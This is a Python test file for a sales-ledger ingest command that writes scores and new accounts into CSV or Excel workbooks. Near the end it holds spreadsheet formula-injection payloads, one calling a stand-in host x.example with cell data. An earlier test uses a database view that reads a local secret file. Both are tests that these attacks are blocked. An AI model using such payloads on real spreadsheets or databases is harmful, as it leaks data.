"""kam ingest: a ledger's scores and new customers written into a workbook, replaced on a re-ingest, all or nothing."""

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import kamlib
from kamlib import cli
from kamlib.errors import WorkbookError
from kamlib.ledger.ingest import write_ingest
from kamlib.ledger.scores import ingest_scores
from tests.kam import run_kam

LEDGER = """date,customer,customer_name,product,family,invoice,quantity,revenue,cost
2024-03-10,A1,Súper,P1,F1,I1,10,1000,600
2025-02-01,A1,Súper,P1,F1,I2,8,1800,400
2024-05-01,A2,Hoteles,P2,F2,I3,7,700,500
2025-06-15,A2,Hoteles,P2,F2,I4,3,300,200
2024-11-30,C9,Nueva Cía,P3,F3,I5,5,500,250
2025-12-31,C9,Nueva Cía,P1,F1,I6,5,900,300
"""
PERIOD = "2026-H1 2025-12"
"""The default period of LEDGER in the tiny workbook: its round 2026-H1 sorts after the ledger's month 2025-12
(a half-year's label sorts after every month of its year), so the ledger's scores follow the round."""


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` (the folder itself and its siblings), by relative path, with its bytes."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def setup(tmp_path, tiny_path):
    ledger = tmp_path / "ventas.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    wb = tmp_path / "wb"
    shutil.copytree(tiny_path, wb)
    return ledger, wb


def backups(wb: Path) -> list[Path]:
    return sorted(wb.parent.glob(f"{wb.stem}.backup-*"))


def ledger_rows(engagement, period=PERIOD):
    scores = engagement.scores
    return scores[(scores["assessor"] == "ledger") & (scores["period"].astype(str) == period)]


def test_ingest_into_a_csv_folder(setup, tiny_path, tiny):
    ledger, wb = setup
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "Customers scored: 3" in result.stdout
    assert "Criteria: volume, growth" in result.stdout
    assert f"Period: {PERIOD} (as of 2025-12-31, 6 invoice lines)" in result.stdout
    assert "New accounts: 1 (C9)" in result.stdout
    engagement = kamlib.load(wb)
    new = ledger_rows(engagement)
    assert sorted(zip(new["account_id"], new["criterion_id"], strict=True)) == sorted(
        (a, c) for a in ("A1", "A2", "C9") for c in ("volume", "growth")
    )
    assert len(engagement.scores) == len(tiny.scores) + 6  # every old row kept
    old = pd.read_csv(tiny_path / "scores.csv", dtype=str)
    now = pd.read_csv(wb / "scores.csv", dtype=str)
    pd.testing.assert_frame_equal(now.iloc[: len(old)], old)  # the old rows exactly as typed
    assert "C9" in set(engagement.accounts["account_id"])
    accounts = pd.read_csv(wb / "accounts.csv", dtype=str, keep_default_na=False)
    assert accounts.iloc[-1].to_dict() == {
        "account_id": "C9",
        "name": "Nueva Cía",
        "sector": "",
        "kam_id": "",
        "revenue": "900",
        "country": "",
        "source": "ledger",
    }
    (backup,) = backups(wb)
    assert f"Backup: {backup.name}" in result.stdout or str(backup) in result.stdout
    assert snapshot(backup) == snapshot(tiny_path)  # the backup is the workbook as it was
    assert not [p for p in wb.parent.iterdir() if p.name.startswith(".")]  # no temp left


def test_a_second_ingest_of_the_period_replaces_it(setup, tiny):
    ledger, wb = setup
    assert run_kam("ingest", ledger, wb).returncode == 0
    first = (wb / "scores.csv").read_bytes()
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "New accounts: none" in result.stdout  # C9 is an account now
    assert (wb / "scores.csv").read_bytes() == first
    engagement = kamlib.load(wb)
    assert len(ledger_rows(engagement)) == 6
    assert len(engagement.scores) == len(tiny.scores) + 6
    assert list(engagement.accounts["account_id"]).count("C9") == 1
    assert len(backups(wb)) == 2  # two ingests in the same second get two backups
    # another period adds, and keeps the first one's ledger scores
    assert run_kam("ingest", ledger, wb, "--period", "2026-Q1").returncode == 0
    engagement = kamlib.load(wb)
    assert len(ledger_rows(engagement)) == 6
    assert len(ledger_rows(engagement, "2026-Q1")) == 6


def test_hand_scores_of_the_same_period_are_kept(setup):
    ledger, wb = setup
    with (wb / "scores.csv").open("a", encoding="utf-8", newline="") as f:
        f.write(f"A3,volume,4,JR,{PERIOD}\n")
    assert run_kam("ingest", ledger, wb).returncode == 0
    assert run_kam("ingest", ledger, wb).returncode == 0
    scores = kamlib.load(wb).scores
    kept = scores[(scores["assessor"] == "JR") & (scores["period"].astype(str) == PERIOD)]
    assert len(kept) == 1
    assert len(ledger_rows(kamlib.load(wb))) == 6  # the period is the same one: the ledger's rows are replaced


def test_a_semicolon_windows_folder_keeps_its_separator_and_encoding(setup, tiny):
    ledger, wb = setup
    for name in ("scores.csv", "accounts.csv"):
        frame = pd.read_csv(wb / name, dtype=str, keep_default_na=False)
        frame.to_csv(wb / name, sep=";", index=False, encoding="cp1252", lineterminator="\r\n")
    assert kamlib.load(wb)  # the copy is valid before
    result = run_kam("--lang", "es", "ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "Clientes puntuados: 3" in result.stdout
    assert "Cuentas nuevas: 1 (C9)" in result.stdout
    for name in ("scores.csv", "accounts.csv"):
        data = (wb / name).read_bytes()
        text = data.decode("cp1252")  # still Windows-1252: UTF-8 would make "Cía" two bytes
        assert "\r\n" in text and text.splitlines()[0].count(";") >= 4
        assert all(";" in line for line in text.splitlines())
    assert "C9;Nueva Cía;;;900;;ledger" in (wb / "accounts.csv").read_bytes().decode("cp1252")
    scores = (wb / "scores.csv").read_bytes().decode("cp1252")
    assert f"C9;volume;5,5;ledger;{PERIOD}" in scores  # the decimal comma of a ";" file
    engagement = kamlib.load(wb)
    assert len(ledger_rows(engagement)) == 6
    assert len(engagement.scores) == len(tiny.scores) + 6


def xlsx_from(folder: Path, target: Path) -> Path:
    """An .xlsx workbook with a sheet per CSV file of `folder`, numbers as numbers."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for file in sorted(folder.glob("*.csv")):
        ws = book.create_sheet(file.stem)
        with file.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                ws.append([number_or_text(cell) for cell in row])
    book.save(target)
    return target


def number_or_text(cell: str) -> object:
    if cell == "":
        return None
    try:
        return float(cell.replace(".", "").replace(",", ".")) if "," in cell else float(cell)
    except ValueError:
        return cell


def test_ingest_into_an_xlsx_workbook(tmp_path, tiny_path, tiny):
    ledger = tmp_path / "ventas.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    wb = xlsx_from(tiny_path, tmp_path / "engagement.xlsx")
    before = kamlib.load(wb)
    old = wb.read_bytes()
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    engagement = kamlib.load(wb)
    assert len(ledger_rows(engagement)) == 6
    assert len(engagement.scores) == len(before.scores) + 6
    assert engagement.accounts.set_index("account_id").at["C9", "source"] == "ledger"  # the column is added
    (backup,) = backups(wb)
    assert backup.suffix == ".xlsx" and backup.read_bytes() == old
    from openpyxl import load_workbook

    ws = load_workbook(wb)["scores"]
    scores = [row for row in ws.iter_rows(values_only=True) if row[3] == "ledger"]
    assert all(isinstance(row[2], (int, float)) for row in scores)  # numbers, not text
    assert run_kam("ingest", ledger, wb).returncode == 0  # again: replaced, not doubled
    engagement = kamlib.load(wb)
    assert len(ledger_rows(engagement)) == 6
    assert list(engagement.accounts["account_id"]).count("C9") == 1
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


@pytest.mark.parametrize(
    "lang, message",
    [("en", "ventas.csv: no column for revenue: tried 'revenue'"), ("es", "ventas.csv: ninguna columna para revenue")],
)
def test_a_bad_ledger_exits_2_and_writes_nothing(setup, lang, message):
    ledger, wb = setup
    frame = pd.read_csv(ledger).drop(columns="revenue")
    frame.to_csv(ledger, index=False)
    before = snapshot(wb.parent)
    result = run_kam("--lang", lang, "ingest", ledger, wb)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith(message)
    assert len(result.stderr.strip().splitlines()) == 1
    assert result.stdout == ""
    assert snapshot(wb.parent) == before  # no backup, no temp, the workbook as it was
    assert sorted(p.name for p in wb.parent.iterdir()) == ["ventas.csv", "wb"]


def test_a_client_database_whose_view_reads_a_file_is_refused_and_nothing_written(setup, tmp_path):
    """Issue 18, finding 2: `kam ingest client.duckdb WB --query ventas`, ventas a view over a file on the disk, used
    to put the file's content into accounts.csv (rc 0)."""
    import duckdb

    ledger, wb = setup
    (tmp_path / "secret.txt").write_text("the consultant's secret\n", encoding="utf-8")
    client = tmp_path / "client.duckdb"
    with duckdb.connect(str(client)) as con:
        con.execute(f"CREATE TABLE lines AS SELECT * FROM read_csv('{ledger}', all_varchar = true)")
        con.execute(
            "CREATE VIEW ventas AS SELECT l.* REPLACE (t.content AS customer_name) FROM lines l, "
            f"read_text('{tmp_path / 'secret.txt'}') t"
        )
    before = snapshot(wb)
    result = run_kam("ingest", client, wb, "--query", "ventas")
    assert result.returncode == 2 and "query reaches outside the database" in result.stderr
    assert snapshot(wb) == before and backups(wb) == []
    assert run_kam("ingest", client, wb, "--query", "lines").returncode == 0  # its tables still read


def test_a_workbook_the_ingest_would_break_is_left_as_it_was(setup):
    """The new workbook is validated before it replaces the old one: here the new account's KAM is unknown."""
    ledger, wb = setup
    engagement = kamlib.load(wb)
    result = ingest_scores(ledger, None, engagement)
    bad = result.accounts.assign(kam_id="K99")
    broken = type(result)(**{**result.__dict__, "accounts": bad})
    before = snapshot(wb.parent)
    with pytest.raises(WorkbookError, match=r"wb/accounts\.csv.*K99"):
        write_ingest(wb, broken)
    assert snapshot(wb.parent) == before
    assert sorted(p.name for p in wb.parent.iterdir()) == ["ventas.csv", "wb"]


def test_cli_hands_ledger_mapping_period_and_query_to_the_library(monkeypatch, setup):
    _, wb = setup
    seen = {}

    def fake_ingest(source, mapping, engagement, period, query, wallet, new_accounts):
        seen.update(source=source, mapping=mapping, period=period, query=query, wallet=wallet, new=new_accounts)
        seen.update(accounts=len(engagement.accounts))
        raise cli.KamError("stop", "alto")

    monkeypatch.setattr("kamlib.ledger.ingest.ingest_scores", fake_ingest)
    args = ["--map", "m.yaml", "--period", "P", "--query", "sales", "--wallet", "w.csv", "--accounts-only"]
    code = cli.main(["ingest", "duckdb:///x.db", str(wb), *args])
    assert code == 2
    expected = {"source": "duckdb:///x.db", "mapping": Path("m.yaml"), "period": "P", "query": "sales"}
    assert seen == {**expected, "wallet": Path("w.csv"), "new": False, "accounts": 4}
    assert sorted(p.name for p in wb.parent.iterdir()) == ["ventas.csv", "wb"]  # nothing written


def test_template_ledger_writes_the_mapping(tmp_path):
    out = tmp_path / "ventas.yaml"
    result = run_kam("template", out, "--kind", "ledger")
    assert result.returncode == 0, result.stderr
    from kamlib.ledger.mapping import load_mapping, mapping_template

    assert out.read_text(encoding="utf-8") == mapping_template()
    load_mapping(out)
    bad = run_kam("template", tmp_path / "x.xlsx", "--kind", "ledger")
    assert bad.returncode == 2
    assert "unsupported ledger template format '.xlsx'; allowed: .yaml, .yml" in bad.stderr


def test_the_ledger_sheets_are_written_and_replaced_per_period(setup):
    ledger, wb = setup
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "Ledger metrics: 3 accounts; whitespace: 3 families an account does not buy (account × family)" in (
        result.stdout
    )
    engagement = kamlib.load(wb)
    metrics = engagement.ledger_metrics.set_index("account_id")
    assert sorted(metrics.index) == ["A1", "A2", "C9"]  # A3, A4 bought nothing: no row
    assert set(metrics["period"].astype(str)) == {PERIOD} and set(metrics["as_of"]) == {"2025-12-31"}
    assert metrics.at["A1", "volume"] == 1800 and metrics.at["A1", "volume_prior"] == 1000
    assert metrics.at["A1", "growth"] == 80 and metrics.at["A1", "margin"] == pytest.approx(77.8)
    assert metrics.at["C9", "status"] == "active" and metrics.at["A2", "recency"] == 199
    space = engagement.whitespace
    # F3 was bought only in the year before: not part of the last 12 months' range
    assert sorted(zip(space["account_id"], space["family"], strict=True)) == [("A1", "F2"), ("A2", "F1"), ("C9", "F2")]
    assert space.set_index(["account_id", "family"]).at[("A2", "F1"), "buyer_share"] == pytest.approx(66.7)
    assert (wb / "ledger_metrics.csv").read_text(encoding="utf-8").startswith("account_id,period,as_of,status,")
    assert engagement.summary().endswith(f"; from the sales ledger: metrics of 3 accounts (period {PERIOD})")
    assert run_kam("ingest", ledger, wb).returncode == 0  # again: replaced, not doubled
    assert run_kam("ingest", ledger, wb, "--period", "2026-Q1").returncode == 0  # another period: added
    engagement = kamlib.load(wb)
    assert engagement.ledger_metrics["period"].astype(str).value_counts().to_dict() == {PERIOD: 3, "2026-Q1": 3}
    assert len(engagement.whitespace) == 6


def test_no_scores_writes_only_the_ledger_sheets(setup, tiny_path):
    ledger, wb = setup
    result = run_kam("--lang", "es", "ingest", ledger, wb, "--no-scores")
    assert result.returncode == 0, result.stderr
    assert "Puntuaciones: sin cambios (--no-scores)" in result.stdout
    assert "Métricas del libro de ventas: 2 cuentas" in result.stdout  # C9 is not an account and is not added
    for name in ("scores.csv", "accounts.csv", "criteria.csv"):
        assert (wb / name).read_bytes() == (tiny_path / name).read_bytes()
    assert sorted(kamlib.load(wb).ledger_metrics["account_id"]) == ["A1", "A2"]


def test_new_ledger_sheets_take_the_scores_files_format(setup):
    ledger, wb = setup
    frame = pd.read_csv(wb / "scores.csv", dtype=str, keep_default_na=False)
    frame.to_csv(wb / "scores.csv", sep=";", index=False, lineterminator="\r\n")
    assert run_kam("ingest", ledger, wb).returncode == 0
    text = (wb / "ledger_metrics.csv").read_bytes().decode("utf-8")
    assert text.startswith("account_id;period;as_of;status;volume;") and "\r\n" in text
    assert ";77,8;" in text  # A1's margin with the decimal comma of a ";" file


def test_an_xlsx_workbook_gets_the_ledger_sheets(tmp_path, tiny_path):
    ledger = tmp_path / "ventas.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    wb = xlsx_from(tiny_path, tmp_path / "engagement.xlsx")
    assert run_kam("ingest", ledger, wb).returncode == 0
    assert run_kam("ingest", ledger, wb).returncode == 0
    engagement = kamlib.load(wb)
    assert len(engagement.ledger_metrics) == 3 and len(engagement.whitespace) == 3
    from openpyxl import load_workbook

    ws = load_workbook(wb)["ledger_metrics"]
    assert [c.value for c in ws[1]][:4] == ["account_id", "period", "as_of", "status"]


def with_cached_values(path: Path, values: dict[str, str]) -> None:
    """Store a computed value beside each formula of the accounts sheet (openpyxl writes formulas without)."""
    import re
    import zipfile

    with zipfile.ZipFile(path) as z:
        files = {name: z.read(name) for name in z.namelist()}
    book = files["xl/workbook.xml"].decode()
    rels = files["xl/_rels/workbook.xml.rels"].decode()
    rid = re.search(r'<sheet[^>]*name="accounts"[^>]*r:id="([^"]+)"', book).group(1)
    target = re.search(rf'<Relationship[^>]*Id="{rid}"[^>]*Target="/?(?:xl/)?([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship[^>]*Target="/?(?:xl/)?([^"]+)"[^>]*Id="{rid}"', rels)
    name = "xl/" + target.group(1)
    xml = files[name].decode()
    for cell, value in values.items():
        xml, n = re.subn(rf'(<c r="{cell}"[^>]*>)<f>([^<]*)</f>(<v\s*/>|<v></v>)?', rf"\1<f>\2</f><v>{value}</v>", xml)
        assert n == 1, cell
    files[name] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for file, data in files.items():
            z.writestr(file, data)


@pytest.mark.parametrize(
    "lang, message",
    [
        ("en", "engagement.xlsx: formulas in accounts!E2, accounts!E3; kam ingest rewrites the file and would lose"),
        ("es", "engagement.xlsx: fórmulas en accounts!E2, accounts!E3; kam ingest reescribe el archivo y perdería"),
    ],
)
def test_an_xlsx_with_formulas_is_refused_before_anything_is_written(tmp_path, tiny_path, lang, message):
    ledger = tmp_path / "ventas.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    wb = xlsx_from(tiny_path, tmp_path / "engagement.xlsx")
    from openpyxl import load_workbook

    book = load_workbook(wb)
    book["accounts"]["E2"] = "=1000*2"
    book["accounts"]["E3"] = "=E2/2"
    book.save(wb)
    with_cached_values(wb, {"E2": "2000", "E3": "1000"})  # as Excel or LibreOffice save them
    assert kamlib.load(wb).accounts["revenue"].iloc[:2].tolist() == [2000, 1000]
    before = snapshot(tmp_path)
    result = run_kam("--lang", lang, "ingest", ledger, wb)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith(message)
    assert snapshot(tmp_path) == before


def test_a_period_given_before_a_round_is_written_with_a_warning_naming_the_round(setup):
    ledger, wb = setup
    result = run_kam("ingest", ledger, wb, "--period", "2025-01")
    assert result.returncode == 0, result.stderr
    assert (
        "Warning: 2026-H1 sorts after 2025-01 and scores the same account and criterion as 4 of 6 new scores; per "
        'criterion the latest period counts, so those are not used; to make them the latest, give --period "2026-H1 '
        '2025-12"'
    ) in result.stdout  # C9 is new: the round does not score it, its two scores count
    assert len(ledger_rows(kamlib.load(wb), "2025-01")) == 6  # written all the same: a past period may be wanted
    spanish = run_kam("--lang", "es", "ingest", ledger, wb, "--period", "2025-01")
    assert (
        "Aviso: 2026-H1 va después de 2025-01 y puntúa la misma cuenta y criterio que 4 de 6 puntuaciones nuevas; "
        "en cada criterio cuenta el último periodo, así que esas no se usan; para que sean las últimas, dé --period "
        '"2026-H1 2025-12"'
    ) in spanish.stdout
    later = run_kam("ingest", ledger, wb, "--period", "2026-H2")
    assert "Warning:" not in later.stdout and "Period: 2026-H2 (" in later.stdout


def test_without_period_the_ledger_follows_the_round_and_kam_score_uses_it(setup):
    ledger, wb = setup
    ledger.write_text(LEDGER + "2026-05-20,A1,Súper,P2,F2,I7,1,100,50\n", encoding="utf-8")
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "Period: 2026-H1 2026-05 (as of 2026-05-20, 7 invoice lines)" in result.stdout
    assert (
        "The month 2026-05 sorts before the workbook's period 2026-H1, whose scores would outrank the ledger's (per "
        'criterion the latest period counts): the period is "2026-H1 2026-05", which sorts after it (--period names '
        "another)"
    ) in result.stdout
    assert "Warning:" not in result.stdout
    engagement = kamlib.load(wb)
    assert engagement.periods == ["2025-H2", "2026-H1", "2026-H1 2026-05"]  # the new period is the latest
    new = ledger_rows(engagement, "2026-H1 2026-05").set_index(["account_id", "criterion_id"])["score"]
    out = wb.parent / "scored.csv"
    scored = run_kam("score", wb, "--out", out)
    assert scored.returncode == 0, scored.stderr
    potential = pd.read_csv(out).set_index("account_id")["potential"]
    for account in ("A1", "A2"):  # volume weighs 3, growth 1, both on 1 to 10: the ledger's scores, not the round's
        volume, growth = new[(account, "volume")], new[(account, "growth")]
        assert potential[account] == pytest.approx(10 * (3 * (volume - 1) / 9 + (growth - 1) / 9) / 4)
    assert potential["A2"] != pytest.approx(7.638888889)  # what the round 2026-H1 gives A2
    spanish = run_kam("--lang", "es", "ingest", ledger, wb)
    assert (
        "El mes 2026-05 va antes que el periodo 2026-H1 del libro, cuyas puntuaciones prevalecerían sobre las del "
        'libro de ventas (en cada criterio cuenta el último periodo): el periodo es "2026-H1 2026-05", que va '
        "después (--period indica otro)"
    ) in spanish.stdout
    assert len(ledger_rows(kamlib.load(wb), "2026-H1 2026-05")) == 6  # again: the same period, replaced


def test_each_later_ledger_follows_the_round_and_an_older_one_is_refused(setup):
    ledger, wb = setup
    for day in ("2026-05-20", "2026-06-30"):
        ledger.write_text(LEDGER + f"{day},A1,Súper,P2,F2,I7,1,100,50\n", encoding="utf-8")
        assert run_kam("ingest", ledger, wb).returncode == 0
    engagement = kamlib.load(wb)
    assert engagement.periods == ["2025-H2", "2026-H1", "2026-H1 2026-05", "2026-H1 2026-06"]  # not piled up
    ledger.write_text(LEDGER + "2026-05-20,A1,Súper,P2,F2,I7,1,100,50\n", encoding="utf-8")
    before = snapshot(wb.parent)
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip() == (
        "the workbook's scores have a period, 2026-H1 2026-06, that sorts after this ledger's month 2026-05 (as of "
        "2026-05-20) and after every label of it: was a newer ledger ingested before? Per criterion the latest "
        "period counts, so these scores would not be used; nothing was written. Allowed: a newer ledger, --period "
        '"2026-H1 2026-06 2026-05" to make them the latest, or --period 2026-05 to add them as an earlier period'
    )
    assert snapshot(wb.parent) == before
    spanish = run_kam("--lang", "es", "ingest", ledger, wb)
    assert spanish.returncode == 2
    assert spanish.stderr.startswith(
        "las puntuaciones del libro tienen un periodo, 2026-H1 2026-06, posterior al mes de este libro de ventas, "
        "2026-05 (hasta 2026-05-20)"
    )
    assert spanish.stderr.strip().endswith(
        'Se admite: un libro de ventas más reciente, --period "2026-H1 2026-06 2026-05" para que sean las últimas, o '
        "--period 2026-05 para añadirlas como un periodo anterior"
    )
    assert run_kam("ingest", ledger, wb, "--period", "2026-05").returncode == 0  # given: written, with a warning


def test_added_customers_are_named_once_and_later_commands_do_not_warn_about_them(setup):
    ledger, wb = setup
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "1 customer added, not placed until scored on position: C9" in result.stdout
    assert "left out of the matrix" not in result.stderr
    for command in (("score", wb), ("time", wb), ("compare", wb, wb.parent / "s.yaml")):
        (wb.parent / "s.yaml").write_text("name: t\nweights: {growth: 3}\n", encoding="utf-8")
        later = run_kam(*command)
        assert later.returncode == 0, later.stderr
        assert "left out of the matrix" not in later.stderr, command
    out = wb.parent / "scored.csv"
    assert run_kam("score", wb, "--out", out).returncode == 0
    c9 = pd.read_csv(out, dtype={"placed": bool}).set_index("account_id").loc["C9"]
    assert not c9["placed"] and c9["missing_axis"] == "position"  # still out of the matrix, said once
    # an account out of the matrix for another reason is still named, and C9 is not
    with (wb / "accounts.csv").open("a", encoding="utf-8", newline="") as f:
        f.write("A5,A mano SL,horeca,K1,1000,ES,\n")
    with (wb / "scores.csv").open("a", encoding="utf-8", newline="") as f:
        f.write("A5,volume,5,JR,2026-H1\n")
    later = run_kam("score", wb)
    assert "warning: 1 account(s) left out of the matrix: A5 (no weighted score on position)" in later.stderr
    # once scored on position, C9 is placed like any account
    with (wb / "scores.csv").open("a", encoding="utf-8", newline="") as f:
        f.write("C9,service,4,JR,2026-H1\n")
    assert run_kam("score", wb, "--out", out).returncode == 0
    assert pd.read_csv(out, dtype={"placed": bool}).set_index("account_id").at["C9", "placed"]


def test_added_customers_are_named_in_spanish_and_not_when_none_is_added(setup):
    ledger, wb = setup
    result = run_kam("--lang", "es", "ingest", ledger, wb)
    assert "1 cliente añadido, fuera de la matriz hasta tener puntuación en posición: C9" in result.stdout
    again = run_kam("ingest", ledger, wb)
    assert "New accounts: none" in again.stdout and "not placed" not in again.stdout
    only = run_kam("ingest", ledger, wb, "--accounts-only", "--period", "2026-Q1")
    assert "not placed" not in only.stdout


def test_no_scores_after_a_full_ingest_keeps_its_scores(setup):
    ledger, wb = setup
    assert run_kam("ingest", ledger, wb).returncode == 0
    scores, accounts = (wb / "scores.csv").read_bytes(), (wb / "accounts.csv").read_bytes()
    result = run_kam("ingest", ledger, wb, "--no-scores")
    assert result.returncode == 0, result.stderr
    assert "Scores: unchanged (--no-scores)" in result.stdout
    assert (wb / "scores.csv").read_bytes() == scores and (wb / "accounts.csv").read_bytes() == accounts
    assert len(ledger_rows(kamlib.load(wb))) == 6


def test_amounts_of_any_size_keep_every_digit_in_a_semicolon_folder(setup):
    ledger, wb = setup
    big = LEDGER.replace("2025-02-01,A1,Súper,P1,F1,I2,8,1800,400", "2025-02-01,A1,Súper,P1,F1,I2,8,12345678912.5,400")
    ledger.write_text(big, encoding="utf-8")
    for name in ("scores.csv", "accounts.csv"):
        frame = pd.read_csv(wb / name, dtype=str, keep_default_na=False)
        frame.to_csv(wb / name, sep=";", index=False)
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert ";12345678912,5;" in (wb / "ledger_metrics.csv").read_text(encoding="utf-8")
    assert kamlib.load(wb).ledger_metrics.set_index("account_id").at["A1", "volume"] == 12345678912.5


def test_an_empty_ledger_sheet_gets_its_header(setup):
    ledger, wb = setup
    (wb / "whitespace.csv").write_bytes(b"")
    assert kamlib.load(wb).whitespace.empty
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert (wb / "whitespace.csv").read_text(encoding="utf-8").startswith("account_id,period,family,buyers,")
    assert len(kamlib.load(wb).whitespace) == 3


def test_a_new_ledger_sheet_keeps_the_scores_files_encoding(setup):
    ledger, wb = setup
    ledger.write_text(LEDGER.replace(",F2,", ",Lácteos,"), encoding="utf-8")
    for name in ("scores.csv", "accounts.csv"):
        frame = pd.read_csv(wb / name, dtype=str, keep_default_na=False)
        frame.to_csv(wb / name, sep=";", index=False, encoding="cp1252")
    assert run_kam("ingest", ledger, wb).returncode == 0
    assert "Lácteos" in (wb / "whitespace.csv").read_bytes().decode("cp1252")


def test_the_wallet_estimates_that_match_no_customer_are_named(setup, tmp_path):
    ledger, wb = setup
    wallet = tmp_path / "wallet.csv"
    wallet.write_text("customer,wallet\nA1,3600\nA2,1200\nA9,500\nX7,100\n", encoding="utf-8")
    result = run_kam("ingest", ledger, wb, "--wallet", wallet)
    assert result.returncode == 0, result.stderr
    assert "Wallet estimates: 4 read, 2 of them customers of the ledger; not in the ledger: A9, X7" in result.stdout
    metrics = kamlib.load(wb).ledger_metrics.set_index("account_id")
    assert metrics.at["A1", "share_of_wallet"] == 50 and metrics.at["A2", "share_of_wallet"] == 25


def test_hand_scores_in_the_same_period_are_pointed_out(setup):
    ledger, wb = setup
    result = run_kam("--lang", "es", "ingest", ledger, wb, "--period", "2026-H1")
    assert result.returncode == 0, result.stderr
    assert "Atención: 2026-H1 también tiene puntuaciones a mano en estos criterios" in result.stdout
    assert "Note:" not in run_kam("ingest", ledger, wb, "--period", "2026-H2").stdout


def test_only_the_workbooks_accounts_and_no_lost_customers(setup):
    ledger, wb = setup
    lost = LEDGER + "2024-06-01,C8,Perdida SL,P1,F1,I7,1,50,10\n"  # bought only in the year before
    ledger.write_text(lost, encoding="utf-8")
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    assert "New accounts: 1 (C9)" in result.stdout  # the lost customer is not made an account
    assert "C8" not in set(kamlib.load(wb).scores["account_id"])
    ledger.write_text(lost, encoding="utf-8")
    result = run_kam("ingest", ledger, wb, "--accounts-only", "--period", "2026-Q1")
    assert "New accounts: none" in result.stdout and "Customers scored: 3" in result.stdout  # A1, A2, C9 (now one)


PAYLOADS = ('=WEBSERVICE("http://x.example/?"&B2)', '+HYPERLINK("http://x.example")', "@SUM(1+1)", "-2+3")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_ledger_name_becomes_a_formula_in_the_workbook(tmp_path, tiny_path, kind):
    ledger = tmp_path / "ventas.csv"
    lines = [LEDGER.splitlines()[0]] + [
        f"2025-12-0{i + 1},N{i},{payload.replace(chr(34), chr(34) * 2).join(chr(34) * 2)},P1,F1,J{i},1,100,50"
        for i, payload in enumerate(PAYLOADS)
    ]
    ledger.write_text(LEDGER + "\n".join(lines[1:]) + "\n", encoding="utf-8")
    if kind == "csv":
        wb = tmp_path / "wb"
        shutil.copytree(tiny_path, wb)
    else:
        wb = xlsx_from(tiny_path, tmp_path / "engagement.xlsx")
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 0, result.stderr
    if kind == "csv":
        with (wb / "accounts.csv").open(encoding="utf-8-sig", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
        assert {f"'{p}" for p in PAYLOADS} <= set(cells)
    else:
        from openpyxl import load_workbook

        ws = load_workbook(wb)["accounts"]
        kinds = {cell.value: cell.data_type for row in ws.iter_rows() for cell in row if cell.value in PAYLOADS}
        assert kinds == dict.fromkeys(PAYLOADS, "s")


def test_a_second_ingest_of_one_workbook_waits_then_is_refused_and_writes_nothing(setup):
    from kamlib.fileio import workbook_lock

    ledger, wb = setup
    before = snapshot(wb.parent)
    with workbook_lock(wb):  # another kam ingest holds the workbook, from reading it to replacing it
        result = subprocess.run(
            [sys.executable, "-m", "kamlib.cli", "ingest", str(ledger), str(wb), "--wait", "1"],
            capture_output=True,
            text=True,
            check=False,
        )
    assert result.returncode == 2, result.stderr
    assert "another kam command is writing this workbook" in result.stderr and "Traceback" not in result.stderr
    assert snapshot(wb.parent) == before
    assert run_kam("ingest", ledger, wb).returncode == 0  # released: the next one goes ahead


def test_a_workbook_saved_meanwhile_is_not_overwritten(setup, monkeypatch):
    from kamlib.ledger import ingest as ingest_module

    ledger, wb = setup
    real = ingest_module.ingest_scores

    def and_excel_saves(*args, **kwargs):
        result = real(*args, **kwargs)
        accounts = wb / "accounts.csv"
        accounts.write_text(accounts.read_text(encoding="utf-8") + "\n", encoding="utf-8")  # saved by Excel
        return result

    monkeypatch.setattr(ingest_module, "ingest_scores", and_excel_saves)
    before = snapshot(wb.parent)
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 2 and "saved by another program while kam ingest was reading it" in result.stderr
    changed = {k: v for k, v in snapshot(wb.parent).items() if before.get(k) != v}
    assert list(changed) == ["wb/accounts.csv"]  # Excel's save, and nothing of the ingest: no backup either


def test_a_locked_file_in_a_csv_folder_leaves_every_file_as_it_was(setup, monkeypatch):
    ledger, wb = setup
    before = snapshot(wb.parent)
    real = os.replace

    def excel_holds_accounts(src, dst):
        if Path(dst).name == "accounts.csv":
            raise PermissionError(13, "Permission denied", str(dst))
        return real(src, dst)

    monkeypatch.setattr(os, "replace", excel_holds_accounts)
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 2
    assert "accounts.csv: cannot be replaced (Permission denied: open in another program?); nothing was changed" in (
        result.stderr
    )
    assert snapshot(wb.parent) == before  # scores.csv put back, no backup, no temp file


